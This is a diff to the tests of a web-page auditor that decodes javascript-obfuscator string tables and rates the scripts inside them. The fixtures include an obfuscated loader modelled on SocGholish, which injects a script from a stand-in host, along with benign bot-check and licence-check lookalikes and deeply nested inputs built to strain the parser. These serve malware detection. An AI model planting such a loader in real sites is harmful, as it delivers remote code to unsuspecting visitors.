@@ -13,6 +13,7 @@ import json
 import pytest
 
 from auditor.dom.deobfuscate import decode_script, is_data, table_acts
+from auditor.dom.string_table import resolved
 from auditor.model import PageReport, Severity
 
 from .conftest import AuditHtml
@@ -35,12 +36,15 @@ def page(head: str = "", body: str = "", foot: str = "") -> str:
 
 
 def obfuscated(words: list[str], body: str) -> str:
-    """javascript-obfuscator's shape: an escaped string table read through an accessor
-    (`_0x4f5a('0x3')` is `words[3]`)."""
-    table = ",".join("'" + "".join(f"\\x{ord(c):02x}" for c in w) + "'" for w in words)
-    return ("(function(_0x1f2a3b,_0x4c5d6e){var _0x2a3b4c=function(_0x5d6e7f){while(--_0x5d6e7f)"
-            "{_0x1f2a3b['push'](_0x1f2a3b['shift']());}};_0x2a3b4c(++_0x4c5d6e);}(_0x3e4f,0x1b7));"
-            f"var _0x3e4f=[{table}];var _0x4f5a=function(_0x6e7f80,_0x7f8091){{_0x6e7f80="
+    """javascript-obfuscator's older shape: an escaped string table, written rotated back
+    by as many places as the IIFE after it turns it (0x1b7), read through an accessor
+    (`_0x4f5a('0x3')` is `words[3]` once turned)."""
+    back = 0x1b7 % len(words)
+    written = words[len(words) - back:] + words[: len(words) - back]
+    table = ",".join("'" + "".join(f"\\x{ord(c):02x}" for c in w) + "'" for w in written)
+    return (f"var _0x3e4f=[{table}];(function(_0x1f2a3b,_0x4c5d6e){{var _0x2a3b4c=function("
+            "_0x5d6e7f){while(--_0x5d6e7f){_0x1f2a3b['push'](_0x1f2a3b['shift']());}};_0x2a3b4c("
+            "++_0x4c5d6e);}(_0x3e4f,0x1b7));var _0x4f5a=function(_0x6e7f80,_0x7f8091){_0x6e7f80="
             "_0x6e7f80-0x0;var _0x809102=_0x3e4f[_0x6e7f80];return _0x809102;};" + body)
 
 
@@ -1034,6 +1038,117 @@ def test_a_string_table_that_loads_or_redirects_stays_high(
     found = _obfuscated(audit_html(page(foot=f"<script>{script}</script>"), url=URL))
     assert [s for s, _ in found] == [H], found
     assert f"decoded, it {verb} {url}" in found[0][1]
+
+
+# javascript-obfuscator's checksum strings: numbers a `parseInt` reads, letters after
+_CHECKSUM_STRINGS = ["2938114qWmXkz", "5120468LpTzvD", "91233hYqnsE"]
+
+
+def checksummed(words: list[str], body: str, turn: int = 5) -> str:
+    """javascript-obfuscator's current shape as it really runs: the table written `turn`
+    places behind, rotated by the IIFE until `parseInt(a(i))/1 + -parseInt(a(j))/2 +
+    parseInt(a(k))/3` equals the constant, and read through an accessor with an offset
+    (`_at(i)` is `words[i]` once rotated)."""
+    final = words + _CHECKSUM_STRINGS
+    first = len(words)
+    value = (int(_CHECKSUM_STRINGS[0][:7]) / 1 + -int(_CHECKSUM_STRINGS[1][:7]) / 2
+             + int(_CHECKSUM_STRINGS[2][:5]) / 3)
+    assert value == int(value)
+    written = final[-turn:] + final[:-turn]
+    table = ",".join(json.dumps(w) for w in written)
+    return (
+        "(function(_0x1a2b3c,_0x4d5e6f){var _0x2b3c4d=_0x5e6f,_0x3c4d5e=_0x1a2b3c();while(!![])"
+        f"{{try{{var _0x4d5e6f7=parseInt(_0x2b3c4d({hex(0x1a0 + first)}))/0x1+-parseInt("
+        f"_0x2b3c4d({hex(0x1a1 + first)}))/0x2+parseInt(_0x2b3c4d({hex(0x1a2 + first)}))/0x3;if("
+        "_0x4d5e6f7===_0x4d5e6f)break;else _0x3c4d5e['push'](_0x3c4d5e['shift']());}catch(_0x5e"
+        f"6f70){{_0x3c4d5e['push'](_0x3c4d5e['shift']());}}}}}}(_0x1b2c,{hex(int(value))}));"
+        f"function _0x1b2c(){{var _0x6f7081=[{table}];_0x1b2c=function(){{return _0x6f7081;}};"
+        "return _0x1b2c();}function _0x5e6f(_0x708192,_0x8192a3){var _0x92a3b4=_0x1b2c();return "
+        "_0x5e6f=function(_0xa3b4c5,_0xb4c5d6){_0xa3b4c5=_0xa3b4c5-0x1a0;var _0xc5d6e7=_0x92a3b4"
+        "[_0xa3b4c5];return _0xc5d6e7;},_0x5e6f(_0x708192,_0x8192a3);}" + body)
+
+
+# a bot check that reads its own tag (`currentScript`, else the first script) for its site
+# key, fingerprints a canvas and posts to its collector: `script` and `src` are in its
+# table to read a tag, and `createElement` is given `canvas`
+_SELF_READING_WORDS = [
+    "https://verify.botshield.example/v3/check", "currentScript", "getElementsByTagName",
+    "script", "src", "split", "k=", "createElement", "canvas", "getContext", "webgl",
+    "webdriver", "POST", "stringify", "location", "href"]
+_SELF_READING = (
+    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]||document[{_at(2)}]({_at(3)})[0x0],"
+    f"_0x3=_0x2[{_at(4)}][{_at(5)}]({_at(6)})[0x1],_0x4=document[{_at(7)}]({_at(8)})[{_at(9)}]("
+    f"{_at(10)});fetch({_at(0)},{{method:{_at(12)},body:JSON[{_at(13)}]({{k:_0x3,g:!!_0x4,w:!!"
+    f"navigator[{_at(11)}],u:window[{_at(14)}][{_at(15)}]}})}});}}());")
+# a licence check reading its key from its own tag's address, a notice div when invalid
+_SELF_LICENCE_WORDS = [
+    "https://licence.themeforge.example/v1/verify.js", "getElementsByTagName", "script",
+    "length", "src", "indexOf", "themeforge", "then", "json", "ok", "createElement", "div",
+    "textContent", "Licence not active", "body", "appendChild"]
+_SELF_LICENCE = (
+    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)}),_0x3=_0x2[_0x2[{_at(3)}]"
+    f"-0x1][{_at(4)}];if(_0x3[{_at(5)}]({_at(6)})<0x0)return;fetch({_at(0)}+'?s='+_0x3)[{_at(7)}]"
+    f"(function(_0x4){{return _0x4[{_at(8)}]();}})[{_at(7)}](function(_0x5){{if(!_0x5[{_at(9)}])"
+    f"{{var _0x6=document[{_at(10)}]({_at(11)});_0x6[{_at(12)}]={_at(13)};document[{_at(14)}]"
+    f"[{_at(15)}](_0x6);}}}});}}());")
+# SocGholish's loader as the obfuscator writes it: the tag it creates named through the table
+_SOCGHOLISH_WORDS = [
+    "https://content.harbourlight-insure.example/s_code.js?cid=241&v=73a", "createElement",
+    "script", "src", "async", "getElementsByTagName", "head", "appendChild", "currentScript"]
+_SOCGHOLISH_TABLE = (
+    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(0)};"
+    f"_0x2[{_at(4)}]=!![];(document[{_at(8)}]||document[{_at(5)}]({_at(6)})[0x0])[{_at(7)}]("
+    "_0x2);}());")
+# the same, the tag's name passed through a variable: what it creates is not read
+_VARIABLE_TAG = _SOCGHOLISH_TABLE.replace(
+    f"_0x2=document[{_at(1)}]({_at(2)})", f"_0x9={_at(2)},_0x2=document[{_at(1)}](_0x9)")
+
+
+@pytest.mark.parametrize(("what", "script", "most"), [
+    ("a bot check reading its own tag", _SELF_READING, M),
+    ("a licence check reading its own tag", _SELF_LICENCE, M),
+    ("SocGholish's loader creating a script", _SOCGHOLISH_TABLE, H),
+    ("a loader creating a tag named through a variable", _VARIABLE_TAG, H),
+], ids=lambda v: v if isinstance(v, str) and len(v) < 60 else "")
+def test_a_resolved_table_creates_what_create_element_is_given(
+        what: str, script: str, most: Severity, audit_html: AuditHtml) -> None:
+    """A rotated table read as it runs: `script` and `src` in a table whose code only reads
+    its own tag (`document.currentScript`, `getElementsByTagName('script')[0].src`) and
+    creates a canvas or a div load nothing (`high`, "loads" its collector, before); the
+    loader whose `createElement` gets `script` stays `high`, and so does one whose tag's
+    name reaches `createElement` through a variable."""
+    words = {_SELF_READING: _SELF_READING_WORDS, _SELF_LICENCE: _SELF_LICENCE_WORDS}.get(
+        script, _SOCGHOLISH_WORDS)
+    found = _obfuscated(audit_html(page(foot=f"<script>{checksummed(words, script)}</script>"),
+                                   url=URL))
+    assert [s for s, _ in found] == [most], found
+    assert ("decoded, it loads " + words[0] in found[0][1]) == (most is H), found
+
+
+def test_the_rotation_is_read_from_the_checksum() -> None:
+    """The accessor's calls answer the strings the checksum's rotation puts at their index,
+    whatever the turn; a checksum no rotation meets leaves the table unread."""
+    for turn in (1, 5, 17):
+        plain = resolved(checksummed(_SOCGHOLISH_WORDS, _SOCGHOLISH_TABLE, turn))
+        assert plain is not None
+        assert "document['createElement']('script')" in plain
+        assert f"_0x2['src']='{_SOCGHOLISH_WORDS[0]}'" in plain
+    # the IIFE called outside its parentheses, as a formatter (Prettier) writes it
+    formatted = checksummed(_SOCGHOLISH_WORDS, _SOCGHOLISH_TABLE).replace(
+        "}}}(_0x1b2c,", "}}})(_0x1b2c,").replace("));function _0x1b2c", ");function _0x1b2c")
+    assert "document['createElement']('script')" in (resolved(formatted) or "")
+    assert resolved(rotated(_SOCGHOLISH_WORDS, _SOCGHOLISH_TABLE, escaped=False)) is None
+
+
+@pytest.mark.parametrize("nesting", ["(" * 1500 + "{}" + ")" * 1500, "-" * 3000 + "{}"],
+                         ids=["parentheses", "unary minus"])
+def test_a_hostile_checksum_is_left_unread(nesting: str) -> None:
+    """A checksum nested past what any obfuscator writes is not read (no recursion past
+    Python's limit on a hostile page): the table keeps its words' reading."""
+    term = f"parseInt(_0x2b3c4d({hex(0x1a0 + len(_SOCGHOLISH_WORDS))}))/0x1"
+    code = checksummed(_SOCGHOLISH_WORDS, _SOCGHOLISH_TABLE)
+    assert term in code
+    assert resolved(code.replace(term, nesting.format(term))) is None
 
 
 @pytest.mark.parametrize(("code", "words", "acts"), [
